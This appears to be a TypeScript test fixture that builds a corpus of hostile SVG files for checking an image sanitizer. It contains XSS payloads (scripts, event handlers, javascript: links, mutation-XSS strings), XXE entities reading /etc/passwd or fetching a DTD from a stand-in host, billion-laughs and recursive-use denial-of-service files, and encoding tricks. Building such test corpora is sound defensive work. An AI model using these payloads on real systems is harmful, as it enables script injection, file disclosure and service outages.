import type { HostileFile } from './damage.ts'

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
const shape = '<rect width="9" height="9"/>'
const evil = 'https://evil.example/x'
const svg = (inside: string) => `${open}${shape}${inside}</svg>`
const repeated = (before: string, after: string, depth: number) => before.repeat(depth) + shape + after.repeat(depth)

const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
const nested = Array.from(
  { length: 30 },
  (_, at) => `<g id="u${at + 1}"><use href="#u${at}"/><use href="#u${at}"/></g>`,
).join('')

const texts: [name: string, text: string][] = [
  ['a script', svg('<script>alert(1)</script>')],
  ['a script at an address', svg(`<script href="${evil}.js"/><script xlink:href="${evil}.js"/>`)],
  ['a script in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
  [
    'handlers',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"><rect onclick="alert(1)" width="9" height="9"/></svg>',
  ],
  ['a prefixed handler', svg('<g x:onload="alert(1)" ev:event="load">x</g>')],
  [
    'javascript links',
    svg(
      '<a href="javascript:alert(1)"><rect width="1" height="1"/></a><a xlink:href="java&#10;script:alert(1)"><text>x</text></a>',
    ),
  ],
  [
    'an animated link',
    svg(
      '<a id="a"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
    ),
  ],
  [
    'HTML',
    svg(
      '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>',
    ),
  ],
  [
    'HTML out of a title',
    svg('<title><style><img src=x onerror=alert(1)></style></title><desc><script>alert(1)</script></desc>'),
  ],
  [
    'external pictures',
    svg(`<image href="${evil}.png"/><image xlink:href="file:///etc/passwd"/><feImage href="${evil}"/>`),
  ],
  [
    'external use',
    svg(`<use href="${evil}.svg#a"/><use xlink:href="data:image/svg+xml,%3Csvg%20id='a'%20onload='alert(1)'/%3E#a"/>`),
  ],
  [
    'external styles',
    svg(`<style>@import "${evil}.css"; rect{fill:url(${evil})} @font-face{src:url(${evil})}</style>`),
  ],
  ['styles out of comments', svg('<style>/*</style><script>alert(1)</script>*/</style>')],
  [
    'external references in attributes',
    svg(`<rect fill="url(${evil}#a)" style="fill:url('${evil}')" filter="url(${evil})" width="1" height="1"/>`),
  ],
  ['an external style sheet', `<?xml version="1.0"?><?xml-stylesheet href="${evil}.css"?>${svg('')}`],
  [
    'an external entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  ],
  ['an external parameter entity', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${evil}.dtd"> %x;]>${svg('')}`],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]>${svg('<text>&l10;</text>')}`],
  ['uses of uses', svg(`<g id="u0">${shape}</g>${nested}<use href="#u30"/>`)],
  ['a use of itself', svg('<g id="a"><use href="#a"/></g><use href="#a"/>')],
  ['depth', svg(repeated('<g>', '</g>', 20_000))],
  ['many elements', svg(shape.repeat(30_000))],
  [
    'huge numbers',
    svg('<rect width="1e308" height="-1e308" x="NaN" y="99999999999999999999"/><path d="M1e999 1e999L-1e999 0"/>'),
  ],
  [
    'a huge size',
    `<svg xmlns="http://www.w3.org/2000/svg" width="1e300" height="1e300" viewBox="0 0 1e30 1e30">${shape}</svg>`,
  ],
  ['a size of zero', `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="-5" viewBox="0 0 0 0">${shape}</svg>`],
  ['a path of a megabyte', svg(`<path d="${'M0 0L9 9'.repeat(100_000)}"/>`)],
  [
    'a filter of great cost',
    svg(
      '<filter id="f"><feTurbulence numOctaves="100000"/><feGaussianBlur stdDeviation="100000"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
  ],
  [
    'a pattern in itself',
    svg(
      '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern><rect fill="url(#p)" width="9" height="9"/>',
    ),
  ],
  ['a handler', svg('<handler type="application/ecmascript">alert(1)</handler><listener handler="#h"/>')],
  [
    'broken markup',
    `${open}<rect width="9" height="9" "onload=alert(1)//<svg onload=alert(1)><g></svg><script>alert(1)</script>`,
  ],
  ['MathML', svg('<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">')],
  ['control characters', svg('<text>\0\u0001\u202e\ufffe</text>')],
  ['no end', `${open}${shape}<g><text>x`],
]

/** SVGs that try what the format allows. Those that are accepted must have nothing but shapes. */
export const svgs = (): HostileFile[] => {
  const encodings: [string, Buffer][] = [
    ['a byte order mark', Buffer.from(`\ufeff${svg('<script>alert(1)</script>')}`)],
    [
      'UTF-16',
      Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${svg('<script>alert(1)</script>')}`, 'utf16le'),
    ],
    [
      'a claim of UTF-7',
      Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`),
    ],
    ['invalid UTF-8', Buffer.from(svg('<text>\xff\xfe</text>'), 'latin1')],
    ['an overlong <', Buffer.from(svg('\xc0\xbcscript>alert(1)\xc0\xbc/script>'), 'latin1')],
  ]
  return [...texts.map(([name, text]): [string, Buffer] => [name, Buffer.from(text)]), ...encodings].map(
    ([name, bytes]) => ({ name: `SVG with ${name}`, bytes }),
  )
}
